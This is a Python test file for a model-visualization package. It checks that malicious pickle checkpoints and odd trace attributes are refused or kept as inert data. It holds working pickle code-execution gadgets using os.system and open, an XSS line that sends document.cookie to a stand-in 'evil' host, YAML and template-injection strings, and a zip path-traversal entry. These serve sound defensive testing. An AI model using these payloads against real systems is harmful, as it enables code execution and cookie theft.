"""Hostile files (issue 8.3): loading a checkpoint never executes pickled code; a trace is data only.

Every payload would create a marker file if it ran; each test checks the marker is absent.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import zipfile

import numpy as np
import pytest
import torch

import armt_viz as av
import record_worker as rw
from armt_viz.trace.store import COMMIT_FILE, TraceStoreError


class _Payload:
    """Unpickling this runs a shell command (os.system) that creates the marker file."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


class _OpenPayload:
    """Unpickling this opens (creates) the marker file with builtins.open."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _torch_zip(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


PICKLES = {
    # name: make(marker) -> bytes of the file
    "torch.save zip, os.system at top level": lambda m: _torch_zip(_Payload(m)),
    "torch.save zip, payload inside a state_dict": lambda m: _torch_zip({"memory": torch.zeros(2), "evil": _Payload(m)}),
    "torch.save zip, builtins.open": lambda m: _torch_zip({"x": _OpenPayload(m)}),
    "legacy (non-zip) pickle": lambda m: pickle.dumps({"memory_cell.memory": _Payload(m)}, protocol=2),
    "pickle protocol 5": lambda m: pickle.dumps(_Payload(m), protocol=5),
}


@pytest.mark.filterwarnings("ignore:Detected pickle protocol 5:UserWarning")
@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt", "weights.bin"])
@pytest.mark.parametrize("case", list(PICKLES))
def test_malicious_pickle_checkpoint_runs_nothing_and_is_refused(case, name, tmp_path, model):
    marker = tmp_path / "PWNED"
    ckpt_dir = tmp_path / "ckpt"
    ckpt_dir.mkdir()
    path = ckpt_dir / name
    path.write_bytes(PICKLES[case](marker))
    for target in ([path, ckpt_dir] if name != "weights.bin" else [path]):  # a file, or a folder holding it
        with pytest.raises(ValueError) as ei:
            av.ARMTModel.from_official(target, model.backbone.config, model.config)
        msg = str(ei.value)
        assert "refused to load" in msg and "weights_only=True" in msg and "safetensors" in msg, msg
        assert str(path) in msg
        assert not marker.exists(), "unpickling ran code"


def test_pickle_renamed_to_safetensors_is_refused(tmp_path, model):
    marker = tmp_path / "PWNED"
    path = tmp_path / "model.safetensors"
    path.write_bytes(pickle.dumps(_Payload(marker)))
    with pytest.raises(ValueError, match="not a readable safetensors file"):
        av.ARMTModel.from_official(path, model.backbone.config, model.config)
    assert not marker.exists()


def test_from_pretrained_with_pickle_weights_runs_nothing(tmp_path, model):
    d = tmp_path / "saved"
    model.save_pretrained(d)
    marker = tmp_path / "PWNED"
    (d / "model.safetensors").write_bytes(_torch_zip({"x": _Payload(marker)}))
    with pytest.raises(ValueError) as ei:
        av.ARMTModel.from_pretrained(d)
    assert not marker.exists()
    msg = str(ei.value)
    assert "not a readable safetensors file" in msg and str(d / "model.safetensors") in msg and "save_pretrained" in msg


def test_non_tensor_contents_are_refused(tmp_path, model):
    path = tmp_path / "pytorch_model.bin"
    torch.save({"memory_cell.memory": 3, "note": "hello"}, path)  # loadable with weights_only, but no tensors
    with pytest.raises(ValueError, match="does not hold a state_dict of tensors"):
        av.ARMTModel.from_official(path, model.backbone.config, model.config)


# ---------------------------------------------------------------- traces are data only

ODD = {
    "armt_config": json.dumps({"__class__": "os.system", "cmd": "__import__('os').system('touch PWNED')",
                "yaml": "!!python/object/apply:os.system ['touch PWNED']"}),
    "input_description": "<script>fetch('http://evil/'+document.cookie)</script>{{7*7}}${7*7}",
    "versions": "\x00\x01 not json at all \udcff".encode("utf-8", "surrogateescape").decode("utf-8", "replace"),
    "ledger_attrs": json.dumps({"__reduce__": "os.system", "args": ["touch PWNED"]}),
}


def test_trace_attributes_with_odd_content_are_just_data(reference, tmp_path, monkeypatch):
    import zarr
    store = tmp_path / "odd.zarr"
    shutil.copytree(reference.encoding["source"], store)
    g = zarr.open_group(str(store), mode="r+", use_consolidated=False)
    g.attrs.update(ODD)
    monkeypatch.chdir(tmp_path)  # a payload that ran would create ./PWNED
    called = []
    monkeypatch.setattr(os, "system", lambda *a: called.append(a))
    ds = av.open_trace(store).load()
    for k, v in ODD.items():
        assert ds.attrs[k] == v  # kept verbatim, never interpreted
    assert not called and not (tmp_path / "PWNED").exists()
    rw.assert_same_trace(ds.drop_attrs(), reference.drop_attrs())


def test_resume_state_with_pickled_objects_is_refused(reference, tmp_path, model):
    store = tmp_path / "t.zarr"
    with pytest.raises(rw.Crash), rw.crash_points("state", 3):
        rw.run(store, model=model)
    commit = json.loads((store / COMMIT_FILE).read_text())
    marker = tmp_path / "PWNED"
    np.savez(store / commit["state_file"], segments=np.array(4), assoc_0=np.array([_Payload(marker)], dtype=object))
    av.open_trace(store)  # reading does not touch the resume state
    with pytest.raises(TraceStoreError) as ei:
        rw.run(store, resume=True, model=model)
    assert "unreadable" in str(ei.value) and "resume=False" in str(ei.value) and commit["state_file"] in str(ei.value)
    assert not marker.exists()


def test_store_with_a_pickle_codec_is_refused_and_runs_nothing(tmp_path):
    """zarr 3 has no pickle codec; this guards against one appearing (a trace would then execute code)."""
    marker = tmp_path / "PWNED"
    root = tmp_path / "evil.zarr"
    (root / "x" / "c").mkdir(parents=True)
    (root / "zarr.json").write_text(json.dumps({"zarr_format": 3, "node_type": "group", "attributes": {
        "schema_version": 1, "armt_config": "{}", "record_config": "{}"}}))
    (root / COMMIT_FILE).write_text(json.dumps({"sizes": {"segment": 2, "keyframe": 0}}))
    (root / "x" / "zarr.json").write_text(json.dumps({
        "zarr_format": 3, "node_type": "array", "shape": [2], "data_type": "float32",
        "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [2]}},
        "chunk_key_encoding": {"name": "default", "configuration": {"separator": "/"}},
        "fill_value": 0.0, "codecs": [{"name": "numcodecs.pickle"}], "dimension_names": ["segment"], "attributes": {}}))
    (root / "x" / "c" / "0").write_bytes(pickle.dumps(np.array([_Payload(marker), 1], dtype=object)))
    with pytest.raises(TraceStoreError, match="unreadable"):
        av.open_trace(root).load()
    assert not marker.exists()


def test_zip_with_a_symlink_member_is_just_a_bad_checkpoint(tmp_path, model):
    """A .bin zip whose data.pkl is absent and whose members point outside: refused, nothing read outside."""
    path = tmp_path / "pytorch_model.bin"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/../../../../etc/passwd", "root:x:0:0")
        z.writestr("archive/version", "3")
    with pytest.raises(ValueError, match="refused to load"):
        av.ARMTModel.from_official(path, model.backbone.config, model.config)
